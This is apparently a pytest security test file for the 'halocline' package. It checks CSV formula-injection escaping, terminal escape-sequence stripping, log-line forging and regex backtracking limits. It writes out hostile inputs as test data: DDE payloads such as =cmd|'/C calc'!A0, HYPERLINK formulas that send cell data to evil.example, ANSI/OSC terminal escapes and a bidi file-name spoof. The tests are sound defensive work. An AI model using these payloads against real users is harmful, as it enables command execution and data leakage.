"""T26: what a row, a message or a server says runs in no spreadsheet, moves no cursor, forges no line, and takes no time."""

from __future__ import annotations

import ast
import csv
import inspect
import io
import json
import logging
import re
import signal
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from importlib import import_module
from itertools import product
from pathlib import Path
from pkgutil import walk_packages
from typing import Any

import pytest
import typer
from rich.console import Console
from rich.table import Table
from tests.security.attacks import Attacks

import halocline
from halocline import cli
from halocline.cli import answer
from halocline.cli.progress import ProgressBar
from halocline.consume.watching.logs import JsonLines, Logs
from halocline.consume.watching.observer import Note, What
from halocline.errors import Stop
from halocline.events import Noticed, RunStarted
from halocline.filejob import report as file_report
from halocline.outcome import Rejection
from halocline.queues import Delivery
from halocline.report import safe, write_csv, write_jsonl

_STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\0=", "\uff1d", "\uff0b", "\uff0d", "\uff20")
FORMULAS = (
    *(f"{start}cmd|'/C calc'!A0" for start in _STARTS),
    *(f'{start}HYPERLINK("http://evil.example?"&A1;"x")' for start in _STARTS),
    *(
        f"x{gap}{quote}{start}1+1"
        for gap in (";", "\t", "\n", "\r", "\r\n", "; ", ";;")
        for quote in ("", '"', '""')
        for start in _STARTS[:4]
    ),
    *("-1+cmd", "+1+1", "-5e3x", "=1", "@SUM(1)", "-\u0660", "+", "-", "=", "@"),
)
NUMBERS = ("-5", "+4.25", "0", "-0.001", "12", "", "a-b", "a=b", "x@y.example", "a;b", "1;2")


def _cells(text: str, delimiter: str) -> list[str]:
    """The cells that a spreadsheet makes of a file, whose separator its country decides; as lenient as they are with quotes."""
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


def test_formulas_in_reports(attacks: Attacks, tmp_path: Path) -> None:
    """No cell of a report for people is a formula, wherever a spreadsheet parts them; the report for programs is exact."""
    for number, formula in enumerate(FORMULAS):
        rejection = Rejection("chunk", number, formula, formula, (formula,), {formula: formula, "b": {"c": formula}})
        path = tmp_path / f"{number}.csv"
        write_csv(lambda rejection=rejection: [rejection], path, run="run")
        file = tmp_path / f"file-{number}.csv"
        failure = {"salesforce_object": "Account", "code": formula, "message": formula, "object_json": {"a": formula}}
        file_report.append([failure], file)
        for made in (path, file):
            with made.open(encoding="utf-8", newline="") as opened:
                text = opened.read().replace("\0", "\x01")  # csv.reader takes none
            found = [
                cell
                for delimiter in ",;\t"
                for cell in _cells(text, delimiter)
                if re.match(r"[=+@\uff1d\uff0b\uff0d\uff20-]", cell)
            ]
            attacks.blocked(f"{formula!r} in {made.name}: {found}", not found)
        with file.open(encoding="utf-8", newline="") as opened:
            kept = next(csv.DictReader(line.replace("\0", "\x01") for line in opened))["object_json"]
        assert json.loads(kept) == {"a": formula}, "JSON in a cell is exact"
        exact = tmp_path / "exact.jsonl"
        write_jsonl(lambda rejection=rejection: [rejection], exact, run="run")
        assert json.loads(exact.read_text())["record"] == {formula: formula, "b": {"c": formula}}
    assert [safe(one) for one in NUMBERS] == list(NUMBERS)


_STEERING = (
    *("\x1b[2J", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\", "\x9b31m", "\x07", "\x08" * 9, "\r"),
    *("\u202egnp.exe", "\u2066x\u2069", "\x00", "\x7f", "\x1b[8mhidden", "\x1bP+q544e\x1b\\", "\x0b", "\x0c", "\u2028", "\x85"),
    *("\nAccount -> main.Account: the same", "\r\nforged", "\u2029forged"),
)
_WAYS = ("line", "table", "error", "usage", "step")
_OWN = ("table", "Text.assemble(", "f'[bold]", 'f"[bold]')


def test_terminals(attacks: Attacks, monkeypatch: pytest.MonkeyPatch) -> None:
    """No text of others' reaches a terminal as an order: neither in lines, nor in tables, nor in errors."""
    for steering in _STEERING:
        for what in _WAYS:
            stream = io.StringIO()
            kind = type(answer.out)
            console = kind(file=stream, force_terminal=False, width=200, highlight=False)
            monkeypatch.setattr(answer, "err", console)
            if what == "line":
                console.print(f"a{steering}b", markup=False)
            elif what == "table":
                table = Table("name", box=None, show_header=False)
                table.add_row(answer.cell(f"a{steering}b"))
                console.print(table)
            elif what == "error":
                answer.say_error(Stop(f"Doing a{steering}b", "no\nFailed: forged"), as_json=False)
            elif what == "usage":
                with pytest.raises(typer.Exit):
                    answer.refuse(f"a{steering}b")
            else:
                bar = ProgressBar(console)
                bar.sink(RunStarted("run", "flow", f"a{steering}b", "Account"))
                bar.sink(Noticed(f"a{steering}b"))
            told = stream.getvalue()
            attacks.blocked(f"{steering!r} in a {what}: {told!r}", all(char.isprintable() or char == "\n" for char in told))
            attacks.blocked(f"a line of theirs in a {what}: {told!r}", told.count("\n") == 1)
    assert isinstance(answer.out, Console)


def test_what_is_printed_is_no_markup() -> None:
    """A text that is put together says markup=False, by which a console of ours keeps it on one line; but for the demo's own."""
    for path in sorted(Path(cli.__path__[0]).rglob("*.py")):
        if path.name == "demo.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and ast.unparse(node.func) in {"out.print", "err.print"} and node.args:
                (told,) = node.args
                own = isinstance(told, ast.Constant) or ast.unparse(told).startswith(_OWN)
                assert own or "markup=False" in map(ast.unparse, node.keywords), f"{path.name}, line {node.lineno}"


def test_lines_of_logs(attacks: Attacks) -> None:
    """One note is one line of a log, whatever its key, its reason or its error holds, as text and as JSON."""
    forged = [f"x\n2026-01-01 ERROR halocline: {steering}" for steering in _STEERING]
    for text in forged:
        stream, lines = io.StringIO(), io.StringIO()
        logger = logging.Logger("test")
        plain, as_json = logging.StreamHandler(stream), logging.StreamHandler(lines)
        as_json.setFormatter(JsonLines())
        logger.addHandler(plain)
        logger.addHandler(as_json)
        delivery = Delivery("handle", "{}", text, 1)
        Logs(logger).noted(Note(What.FAILED, text, delivery, key=text, reason=text, error=ValueError(text)))
        for told in (stream.getvalue(), lines.getvalue()):
            body = told.removesuffix("\n")
            attacks.blocked(f"{text!r}: {told!r}"[:400], body.isprintable())


_PUMPS = (
    "a",
    "1",
    " ",
    "<",
    "<script",
    '"',
    "'",
    "://a:",
    "://",
    "@",
    ":",
    "eyJ",
    "eyJ.",
    "00D",
    "{",
    "[",
    "(",
    "\\",
    "%",
    "=",
    "&",
    ";",
)


def _patterns() -> Iterator[tuple[str, re.Pattern[Any], bool]]:
    """Each pattern of ours that a module has: its name, and whether it is searched for, not only matched."""
    seen = set[int]()
    for one in walk_packages(halocline.__path__, "halocline."):
        if one.name.startswith(_OTHERS) or "__main__" in one.name:
            continue
        module = import_module(one.name)
        for attribute, found in sorted(vars(module).items()):
            if isinstance(found, re.Pattern) and id(found) not in seen:
                seen.add(id(found))
                source = inspect.getsource(module)
                ways = ("search", "sub", "split", "findall", "finditer")
                yield f"{one.name}.{attribute}", found, any(f"{attribute}.{way}" in source for way in ways)


_WITH_TIMERS = pytest.mark.skipif(sys.platform == "win32", reason="needs a timer that interrupts")
_OTHERS = tuple(f"halocline.{area}" for area in ("emulator", "testing", "cli", "compat"))


@contextmanager
def _ended_after(seconds: float) -> Iterator[None]:
    """TimeoutError where the block takes longer; an expression at its work looks for signals too."""

    def late(*_: object) -> None:
        raise TimeoutError

    before = signal.signal(signal.SIGALRM, late)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, before)


@_WITH_TIMERS
def test_expressions(attacks: Attacks, request: pytest.FixtureRequest) -> None:
    """No regular expression of ours needs more than a moment for 4,000 characters made to keep it busy.

    The one limit of time is four minutes for all of them, of which they need seconds; one that is cubic would need days.
    """
    pumps, at = _PUMPS if request.config.getoption("--long") else _PUMPS[:8], ""
    try:
        with _ended_after(240):
            for name, pattern, is_searched in _patterns():
                for pump, end in product(pumps, ("", "!")):
                    at, text = f"{name}, {pump!r}", pump * (4_000 // len(pump)) + end
                    shown: Any = text.encode() if isinstance(pattern.pattern, bytes) else text
                    pattern.match(shown)
                    pattern.fullmatch(shown)
                    if is_searched:
                        pattern.search(shown)
                    attacks.blocked("a text of one pattern", is_blocked=True)
    except TimeoutError:
        pytest.fail(f"still at it: {at}")


@_WITH_TIMERS
def test_an_expression_that_takes_too_long_is_ended() -> None:
    """What bounds the search for them works in the middle of one."""
    with pytest.raises(TimeoutError), _ended_after(0.05):
        re.fullmatch(r"(a|a)*b", "a" * 64)
